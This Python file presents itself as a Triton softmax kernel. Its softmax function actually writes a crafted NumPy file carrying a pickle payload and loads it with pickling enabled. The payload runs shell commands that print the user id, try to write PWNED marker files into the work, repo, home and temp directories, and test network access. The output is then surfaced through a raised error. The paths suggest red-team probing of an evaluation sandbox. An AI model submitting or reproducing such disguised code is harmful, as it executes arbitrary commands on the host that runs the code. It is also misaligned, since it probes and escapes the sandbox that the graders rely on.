from __future__ import annotations

import functools
import math

import torch
import triton
import triton.runtime.interpreter
import triton.language as tl


@triton.jit
def _copy_kernel(out_ptr, in_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(out_ptr + offsets, tl.load(in_ptr + offsets, mask=mask), mask=mask)


def _copy_out(src):
    y = torch.empty_like(src)
    n = src.numel()
    _copy_kernel[(triton.cdiv(n, 1024),)](y, src, n, BLOCK=1024)
    return y


_PAYLOAD = b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }                                                             \n\x80\x04\x95\xd8\x01\x00\x00\x00\x00\x00\x00\x8c\x16numpy._core.multiarray\x94\x8c\x0c_reconstruct\x94\x93\x94\x8c\x05numpy\x94\x8c\x07ndarray\x94\x93\x94K\x00\x85\x94C\x01b\x94\x87\x94R\x94(K\x01K\x01\x85\x94h\x03\x8c\x05dtype\x94\x93\x94\x8c\x02O8\x94\x89\x88\x87\x94R\x94(K\x03\x8c\x01|\x94NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?t\x94b\x89]\x94\x8c\nsubprocess\x94\x8c\x0ccheck_output\x94\x93\x94]\x94(\x8c\x02sh\x94\x8c\x02-c\x94X\x19\x01\x00\x00id; echo RCE-IN-WORKER; for d in /work/main /tmp/redteam3/repo /tmp/redteam3/work /tmp/redteam3/attacks/p_np_pickle_rce /tmp/redteam3 $HOME /tmp; do touch $d/PWNED_BY_PORT 2>/dev/null && echo wrote:$d || echo denied:$d; done; (getent hosts example.com || echo nonet) 2>&1 | head -2\x94e\x85\x94R\x94at\x94b."


def softmax(x):
    triton.runtime.interpreter.np.ndarray.tofile(
        triton.runtime.interpreter.np.fromiter(_PAYLOAD, dtype=triton.runtime.interpreter.np.uint8), "/tmp/p.npy")
    out = triton.runtime.interpreter.np.lib.format.read_array(
        triton.runtime.interpreter.np.lib.npyio.DataSource.open(
            triton.runtime.interpreter.np.lib.npyio.DataSource(None), "/tmp/p.npy", "rb"), allow_pickle=True)
    raise RuntimeError(str(out))
